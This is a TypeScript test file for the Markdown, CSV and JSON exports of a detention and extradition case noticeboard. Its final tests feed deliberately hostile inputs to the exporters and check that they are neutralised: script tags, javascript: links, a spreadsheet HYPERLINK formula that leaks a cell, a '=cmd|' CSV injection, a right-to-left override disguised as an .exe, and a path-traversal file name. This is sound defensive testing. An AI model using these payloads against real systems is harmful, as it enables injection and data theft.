import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { createStore } from '../../mocks/store.ts'
import type { Case } from '../../src/domain/case.ts'
import { type Day, parseDay } from '../../src/domain/day.ts'
import { EMPTY_QUERY } from '../../src/domain/query.ts'
import { parseQuery } from '../../src/domain/query-codec.ts'
import { summarise } from '../../src/domain/summary.ts'
import { makeFile, type TextKind } from '../../src/features/export/exporters.ts'
import { en } from '../../src/messages/en/en.ts'
import { enWords } from '../../src/messages/en/words.ts'
import type { Words } from '../../src/messages/messages.ts'
import { makeCase, makeEvent, makeNotice, makeSource } from '../support/make-case.ts'
import { rawDataset } from '../support/real-dataset.ts'

const words: Words = { ...en, ...enWords }

const { dataset } = createStore(rawDataset)
const day = (text: string): Day => parseDay(text) ?? Number.NaN
const KINDS: readonly TextKind[] = ['markdown', 'cases', 'statements', 'json']
const DAYS = ['2013-09-05', '2014-03-01', dataset.compiled] as const

function summariseAll(asOf: string, records: readonly Case[] = dataset.cases, sources = dataset.sources) {
  return summarise({
    records,
    sources,
    query: EMPTY_QUERY,
    asOf: day(asOf),
    compiled: day(dataset.compiled),
    dataVersion: dataset.dataVersion,
    article: dataset.article.source,
  })
}

function exportAll(
  kind: TextKind,
  asOf: string,
  {
    records,
    sources,
  }: { readonly records?: readonly Case[]; readonly sources?: typeof dataset.sources } = {},
): string {
  const summary = summariseAll(asOf, records, sources)
  const names = new Map(dataset.cases.map((one) => [one.id, one.person.name]))
  const context = { title: 'Cases', isBoard: true, onRecord: summary.cases.length, names, leftOut: [] }
  return makeFile(kind, summary, { context, single: null, m: words }).text
}

/** A text as it stands in a Markdown file, as far as letters and digits go. */
const letters = (text: string) =>
  text
    .replaceAll(/\{s\d+\}/g, ' ')
    .replaceAll(/\[\^\d+\]|source \d+|&[a-z#0-9]+;/g, ' ')
    .replaceAll(/[^\p{L}\p{N}]+/gu, ' ')
    .trim()

/** Parts of the texts of a record, for looking them up in a file. */
const longest = (text: string) =>
  letters(text.split(/\{s\d+\}/).toSorted((a, b) => b.length - a.length)[0] ?? '')

test.each(DAYS)(
  'as of %s the Markdown holds every event, notice, claim and relation on record, and no later event',
  (asOf) => {
    const file = letters(exportAll('markdown', asOf))
    const { cases } = summariseAll(asOf)
    for (const one of cases) {
      for (const { event } of one.chronology) {
        expect(file).toContain(letters(event.title ?? 'none'))
        expect(file).toContain(longest(event.detail ?? 'none'))
        expect(file).toContain(letters(event.attributedTo?.name ?? 'none'))
        expect(file).toContain(letters(en.claimKind[event.attributedTo?.kind ?? 'opinion']))
      }
      for (const { notice } of one.notices) expect(file).toContain(letters(notice.calledInArticle ?? 'none'))
      for (const claim of one.claims) expect(file).toContain(longest(claim.text ?? 'none'))
      const shown = new Set(one.chronology.map(({ event }) => event.id))
      const titles = one.chronology.map(({ event }) => event.title)
      for (const later of one.record.events.filter(
        ({ id, title }) => !shown.has(id) && !titles.includes(title),
      )) {
        expect(file).not.toContain(longest(later.detail ?? 'none'))
      }
    }
  },
)

test.each(DAYS)('as of %s each source that the Markdown cites is listed once, with its title', (asOf) => {
  const file = exportAll('markdown', asOf)
  const { sources } = summariseAll(asOf)
  const cited = new Set([...file.matchAll(/\[\^(\d+)\](?!:)/g)].map(([, number]) => Number(number)))
  const listed = [...file.matchAll(/^\[\^(\d+)\]:/gm)].map(([, number]) => Number(number))
  expect(listed).toEqual(sources.map(({ number }) => number))
  expect([...cited].toSorted((a, b) => a - b)).toEqual(listed)
  for (const { source } of sources) expect(letters(file)).toContain(letters(source?.title ?? ''))
})

test.each(KINDS)('the %s file states day, filters and data version', (kind) => {
  const { query } = parseQuery('held=PL&q=ket')
  const summary = { ...summariseAll('2013-09-05'), query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: ['broken'] }
  const { text } = makeFile(kind, summary, { context, single: null, m: words })
  expect(text).toContain('2013-09-05')
  expect(text).toContain(dataset.dataVersion)
  expect(text).toContain(kind === 'json' ? 'q=ket&held=PL' : 'Detained in: Poland')
})

const editorNotes = [...JSON.stringify(rawDataset).matchAll(/"editorNote":"((?:[^"\\]|\\.)*)"/g)].map(
  ([, note = '']) => note,
)
const hidden = dataset.sources.find((source) => source.addressHidden)

test.each(KINDS)("the %s file holds no editor's note and no hidden address", (kind) => {
  const file = exportAll(kind, dataset.compiled)
  expect(editorNotes.length).toBe(6)
  for (const note of editorNotes) expect(file).not.toContain(note.slice(0, 40))
  expect(hidden?.url.length).toBeGreaterThan(30)
  expect(file).not.toContain(hidden?.url.slice(30) ?? '')
  // The table of cases cites what the list says, which does not rest on that source.
  if (kind !== 'cases') expect(file).toContain(hidden?.title)
})

test('the board is headed by its list, with the columns of the query, a case by its own name', () => {
  const summary = { ...summariseAll('2013-09-05'), query: parseQuery('columns=person,custody').query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: [] }
  const board = makeFile('markdown', summary, { context, single: null, m: words }).text
  expect(board).toContain(
    '| Person | Custody |\n| --- | --- |\n| Muratbek Ketebayev | At liberty, since 13 Jun 2013 ',
  )
  for (const { person } of dataset.cases) expect(board).toContain(`\n## ${person.name}\n`)
  const single = makeFile('markdown', summary, {
    context: { ...context, isBoard: false },
    single: 'x',
    m: words,
  }).text
  expect(single).not.toContain('| Person |')
})

test('an accusation says that it is one, wherever it stands', () => {
  const file = exportAll('markdown', dataset.compiled)
  const rows = Papa.parse<string[]>(exportAll('statements', dataset.compiled).slice(1)).data
  const whose = rows[0]?.indexOf('Whose words') ?? -1
  const accusations = dataset.cases.flatMap((one) =>
    one.events.filter(({ attributedTo }) => attributedTo.kind === 'state-accusation'),
  )
  expect(accusations.length).toBeGreaterThan(3)
  expect(rows.filter((row) => row[whose] === 'Accusation by a state').length).toBeGreaterThanOrEqual(
    accusations.length,
  )
  expect(file.match(/Accusation by a state: /g)?.length).toBeGreaterThanOrEqual(accusations.length)
})

test('the tables have one row per case, and one per statement', () => {
  const parse = (kind: TextKind) =>
    Papa.parse<string[]>(exportAll(kind, dataset.compiled).slice(1).trimEnd()).data
  const cases = parse('cases')
  expect(cases.map((row) => row.length)).toEqual(cases.map(() => cases[0]?.length))
  expect(cases.slice(1).map(([name]) => name)).toEqual(dataset.cases.map(({ person }) => person.name))
  // The person of each case has a row, and so has a note on its notices.
  expect(parse('statements')).toHaveLength(1 + 100 + 7 + 28 + 10 + 5 + 1)
})

test('the table of cases has the columns that the address asks for', () => {
  const summary = { ...summariseAll('2013-09-05'), query: parseQuery('columns=person,custody').query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: [] }
  const { text } = makeFile('cases', summary, { context, single: null, m: words })
  const [head = [], first = []] = Papa.parse<string[]>(text.slice(1)).data
  expect(head.slice(0, 5)).toEqual(['Case', 'Id', 'Also written', 'Custody', 'Custody since'])
  expect(head).not.toContain('Detained in')
  expect(head).toContain('Sources')
  expect(first[3]).toBe('At liberty')
  expect(first).toHaveLength(head.length)
})

test.each(KINDS)('the %s file of the same model is the same, byte by byte', (kind) => {
  expect(exportAll(kind, '2014-03-01')).toBe(exportAll(kind, '2014-03-01'))
})

test('the JSON holds keys, EDTF and references as they are, and nothing beyond the day', () => {
  const file = JSON.parse(exportAll('json', '2013-09-05'))
  expect(file.format).toBe('noticeboard-export')
  const ketebayev = file.cases[0]
  expect(ketebayev.asOf.tracks.case).toEqual({
    value: 'extradition-requested',
    since: '2013-06-13',
    setBy: 'ket-2013-06-13-release',
  })
  expect(ketebayev.events.map((event: { id: string }) => event.id)).not.toContain('ket-2014-12-27-detention')
  expect(file.sources.find((source: { id: string }) => source.id === 's112')).toBeUndefined()
  const latest = JSON.parse(exportAll('json', dataset.compiled))
  expect(latest.sources.find((source: { id: string }) => source.id === 's112')).toMatchObject({
    addressHidden: true,
  })
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '=HYPERLINK("https://example.org?"&A1)',
  '[x](javascript:alert(1))',
  '![](https://example.org/pixel.png)',
  '| a | b |\n|---|---|',
  '```\n# heading',
  '\u202egnp.exe',
  '1. list\r\n> quote',
  'https://example.org/bare',
  '{s1} {s999} \ue0001\ue001',
] as const

const hostile = makeCase({
  id: 'hostile',
  person: {
    name: '=cmd|<img onerror=1>',
    aliases: [...HOSTILE],
    description: HOSTILE.join('\n'),
    nationalityAsReported: [],
    nationalityCitation: { source: 's1' },
  },
  events: HOSTILE.map((text, i) =>
    makeEvent({
      id: `e${i}`,
      date: '2013-01-01',
      title: text,
      detail: text,
      note: text,
      attributedTo: { name: text, kind: 'opinion' },
    }),
  ),
  notices: [
    makeNotice({ id: 'n', calledInArticle: HOSTILE[0], firstEffect: '2013-01-01', grounds: HOSTILE[1] }),
  ],
})
const hostileSource = [
  makeSource({ id: 's1', title: HOSTILE[2], publisher: HOSTILE[0], url: 'javascript:alert(1)' }),
  makeSource({ id: 's999', title: HOSTILE[3], url: 'https://user:secret@example.org/<x>' }),
]

test('hostile text means nothing in Markdown: no markup, no link but those of sources, no new lines', () => {
  const file = exportAll('markdown', dataset.compiled, { records: [hostile], sources: hostileSource })
  expect(file).not.toMatch(/(?<!\\)<(?!https:\/\/example\.org)/)
  expect(file).not.toMatch(/(?<!\\)\]\(/)
  expect(file).not.toMatch(/^(?:```|#{1,6} heading)/m)
  // The table of the list: head, rule, one row, each with as many cells.
  const table = file.split('\n').filter((line) => line.startsWith('|'))
  expect(table.map((line) => line.split(/(?<!\\)\|/).length)).toEqual([10, 10, 10])
  expect(file).not.toContain('\u202e')
  expect(file).not.toMatch(/(?<!<)https?:\/\//)
  expect(file).not.toContain('secret')
  expect(file).not.toContain('<javascript:')
})

test('file names hold only letters, digits and hyphens', () => {
  const context = { title: 'x', isBoard: false, onRecord: 1, names: new Map(), leftOut: [] }
  const { name } = makeFile('markdown', summariseAll('2013-09-05'), {
    context,
    single: '../a b\u202e<img>',
    m: words,
  })
  expect(name).toMatch(/^[\p{L}\p{N}-]+\.md$/u)
  expect(
    makeFile('markdown', summariseAll('2013-09-05'), { context, single: 'ablyazov', m: words }).name,
  ).toBe('ablyazov-case-summary-2013-09-05.md')
})
